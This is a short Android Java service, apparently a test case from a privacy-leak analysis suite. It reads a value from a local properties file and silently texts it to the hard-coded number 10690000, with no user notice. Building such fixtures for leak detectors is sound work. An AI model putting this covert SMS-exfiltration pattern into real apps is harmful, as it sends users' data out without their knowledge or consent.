package cn.privlens.suite.properties_file_other;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;
import java.io.IOException;
import java.io.InputStream;
import java.util.Properties;

public class ReportService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        Properties p = new Properties();
        try (InputStream in = openFileInput("profile.properties")) {
            p.load(in);
        } catch (IOException e) {
            stopSelf();
            return START_NOT_STICKY;
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, p.getProperty("skin", ""), null, null);
        stopSelf(startId);
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
